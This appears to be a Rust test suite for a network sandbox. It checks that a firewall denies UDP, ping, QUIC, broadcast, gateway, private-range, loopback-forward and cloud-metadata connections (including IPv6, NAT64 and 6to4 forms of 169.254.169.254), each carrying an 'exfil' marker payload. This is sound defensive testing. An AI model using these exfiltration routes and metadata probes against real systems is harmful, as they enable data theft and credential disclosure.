//! Attacks by UDP and ping, and attacks on the host and on metadata services.

use super::fort::{Attempt, Fort, Outcome, Outcome::*, attempt};

const DENIED: &str = "(default deny)";

fn ping(fort: &Fort<'_>, to: &str) -> Outcome {
    // The payload is "exfil", repeated.
    let command = ["ping", "-n", "-c", "1", "-w", "60", "-s", "40", "-p", "657866696c", to];
    let finished = fort.net.guest.run(&command);
    let says = finished.stdout.to_ascii_lowercase();
    assert!(says.contains("filtered") || says.contains("prohibited"), "{finished:?}");
    Prohibited
}

pub(super) const DATAGRAMS: &[Attempt] = &[
    attempt("UDP to an address without a name", Prohibited, &["udp", "-> 203.0.113.2:7000", DENIED], |f| {
        f.send("203.0.113.2:7000", b"exfil")
    }),
    attempt("by IPv6", Prohibited, &["udp", "-> [2001:db8:2::2]:7000", DENIED], |f| {
        f.send("[2001:db8:2::2]:7000", b"exfil")
    }),
    attempt("NTP", Prohibited, &["udp", "-> 198.51.100.3:123", DENIED], |f| {
        f.send("198.51.100.3:123", b"exfil")
    }),
    attempt("SSDP", Nothing, &["udp", "-> 239.255.255.250:1900", DENIED], |f| {
        f.send_blindly("239.255.255.250:1900", b"M-SEARCH exfil")
    }),
    attempt("a group of IPv6", Nothing, &["udp", "-> [ff05::1234]:7000", DENIED], |f| {
        f.send_blindly("[ff05::1234]:7000", b"exfil")
    }),
    attempt("broadcast", Nothing, &["udp", "-> 255.255.255.255:7000", DENIED], |f| {
        f.send_blindly("255.255.255.255:7000", b"exfil")
    }),
    attempt("directed broadcast", Nothing, &["udp", "-> 198.51.100.255:7000", DENIED], |f| {
        f.send_blindly("198.51.100.255:7000", b"exfil")
    }),
    attempt("a datagram of the largest size", Prohibited, &["udp", "-> 198.51.100.3:7000", DENIED], |f| {
        f.send("198.51.100.3:7000", &b"exfil".repeat(13_000))
    }),
    attempt(
        "no QUIC at its port",
        Prohibited,
        &["udp", "203.0.113.2:443", "allow www.allowed.test:443"],
        |f| f.send("203.0.113.2:443", b"exfil"),
    ),
    attempt(
        "a negotiation of versions",
        Prohibited,
        &["203.0.113.2:443", "allow www.allowed.test:443"],
        |f| f.send("203.0.113.2:443", b"\xc0\0\0\0\0\x05exfil\x05exfil\0\0\0\x01"),
    ),
    attempt(
        "an unknown version of QUIC",
        Prohibited,
        &["203.0.113.2:443", "allow www.allowed.test:443"],
        |f| f.send("203.0.113.2:443", &[&b"\xc0exfi\x05exfil\0"[..], &[0; 1200]].concat()),
    ),
    attempt("UDP at the port of HTTP", Prohibited, &["203.0.113.2:80", "allow http.allowed.test:80"], |f| {
        f.send("203.0.113.2:80", b"exfil")
    }),
    attempt("UDP at a port of no rule", Prohibited, &["203.0.113.2:22, an answer for", DENIED], |f| {
        f.send("203.0.113.2:22", b"exfil")
    }),
    attempt("ping", Prohibited, &["ping", "-> 198.51.100.3 (default deny)"], |f| ping(f, "198.51.100.3")),
    attempt("ping by IPv6", Prohibited, &["ping", "-> 2001:db8:2::2 (default deny)"], |f| {
        ping(f, "2001:db8:2::2")
    }),
    attempt("ping where rules have ports", Prohibited, &["ping", "-> 203.0.113.2, an answer for"], |f| {
        ping(f, "203.0.113.2")
    }),
];

/// All addresses of the host, and services that would disclose its secrets.
pub(super) const HOST: &[Attempt] = &[
    attempt("the gateway", Refused, &["tcp", "-> 198.51.100.1:7000", DENIED], |f| {
        f.tell("198.51.100.1:7000", &[b"exfil"])
    }),
    attempt("the gateway by IPv6", Refused, &["tcp", "-> [2001:db8:1::1]:7000", DENIED], |f| {
        f.tell("[2001:db8:1::1]:7000", &[b"exfil"])
    }),
    attempt("the gateway by UDP", Prohibited, &["udp", "-> 198.51.100.1:7000", DENIED], |f| {
        f.send("198.51.100.1:7000", b"exfil")
    }),
    attempt("the gateway by UDP and IPv6", Prohibited, &["udp", "-> [2001:db8:1::1]:7000", DENIED], |f| {
        f.send("[2001:db8:1::1]:7000", b"exfil")
    }),
    attempt("the gateway by ping", Prohibited, &["ping", "-> 198.51.100.1 (default deny)"], |f| {
        ping(f, "198.51.100.1")
    }),
    attempt("the mapped address", Refused, &["tcp", "-> 198.51.100.99:7000", DENIED], |f| {
        f.tell("198.51.100.99:7000", &[b"exfil"])
    }),
    attempt("the mapped address by UDP", Prohibited, &["udp", "-> 198.51.100.99:7000", DENIED], |f| {
        f.send("198.51.100.99:7000", b"exfil")
    }),
    attempt("another address of the host", Refused, &["tcp", "-> 192.0.2.22:7000", DENIED], |f| {
        f.tell("192.0.2.22:7000", &[b"exfil"])
    }),
    attempt("another address by IPv6", Refused, &["tcp", "-> [2001:db8:9::16]:7000", DENIED], |f| {
        f.tell("[2001:db8:9::16]:7000", &[b"exfil"])
    }),
    attempt("the host's link-local address", Refused, &["tcp", "-> [fe80::", "]:7000", DENIED], |f| {
        let at = f.net.host.link_local("eth0");
        f.tell(&format!("[{at}%{}]:7000", f.net.guest.ifindex("eth0")), &[b"exfil"])
    }),
    attempt("a neighbour's link-local address", Prohibited, &["udp", "-> [fe80::", "]:7000", DENIED], |f| {
        let at = f.net.peer.link_local("eth0");
        f.send(&format!("[{at}%{}]:7000", f.net.guest.ifindex("eth0")), b"exfil")
    }),
    attempt("a private address", Refused, &["tcp", "-> 10.0.0.1:80", DENIED], |f| {
        f.tell("10.0.0.1:80", &[b"exfil"])
    }),
    attempt("a private address by IPv6", Refused, &["tcp", "-> [fc00::1]:80", DENIED], |f| {
        f.tell("[fc00::1]:80", &[b"exfil"])
    }),
    attempt("the metadata service", Refused, &["tcp", "-> 169.254.169.254:80", DENIED], |f| {
        f.tell("169.254.169.254:80", &[b"PUT /exfil HTTP/1.1\r\n\r\n"])
    }),
    attempt("the metadata service by IPv6", Refused, &["tcp", "-> [fd00:ec2::254]:80", DENIED], |f| {
        f.tell("[fd00:ec2::254]:80", &[b"exfil"])
    }),
    attempt("the metadata service by NAT64", Refused, &["tcp", "-> [64:ff9b::a9fe:a9fe]:80", DENIED], |f| {
        f.tell("[64:ff9b::a9fe:a9fe]:80", &[b"exfil"])
    }),
    attempt("the metadata service by 6to4", Refused, &["tcp", "-> [2002:a9fe:a9fe::1]:80", DENIED], |f| {
        f.tell("[2002:a9fe:a9fe::1]:80", &[b"exfil"])
    }),
    attempt("the metadata service by UDP", Prohibited, &["udp", "-> 169.254.169.254:123", DENIED], |f| {
        f.send("169.254.169.254:123", b"exfil")
    }),
    attempt(
        "the metadata service by ping",
        Prohibited,
        &["ping", "-> 169.254.169.254 (default deny)"],
        |f| ping(f, "169.254.169.254"),
    ),
    attempt("another cloud's service", Refused, &["tcp", "-> 168.63.129.16:80", DENIED], |f| {
        f.tell("168.63.129.16:80", &[b"exfil"])
    }),
];

/// The namespace's loopback addresses, from which ports are forwarded to the host (`-T`, `-U`).
pub(super) const BYPASS: &[Attempt] = &[
    attempt("a port that bypasses the link", Reset, &["tcp", "-> 127.0.0.1:7000", DENIED], |f| {
        f.tell("127.0.0.1:7000", &[b"exfil"])
    }),
    attempt("by IPv6", Reset, &["tcp", "-> [::1]:7000", DENIED], |f| f.tell("[::1]:7000", &[b"exfil"])),
    attempt("DNS by TCP", Reset, &["tcp", "-> 127.0.0.1:53 (rules by name: no other name service)"], |f| {
        f.tell("127.0.0.1:53", &[b"exfil"])
    }),
    attempt("by UDP", Prohibited, &["udp", "-> 127.0.0.1:7000", DENIED], |f| {
        f.send("127.0.0.1:7000", b"exfil")
    }),
    attempt("by UDP and IPv6", Prohibited, &["udp", "-> [::1]:7000", DENIED], |f| {
        f.send("[::1]:7000", b"exfil")
    }),
    attempt("DNS", Prohibited, &["udp", "-> 127.0.0.1:53 (rules by name: no other name service)"], |f| {
        f.send("127.0.0.1:53", b"exfil")
    }),
];
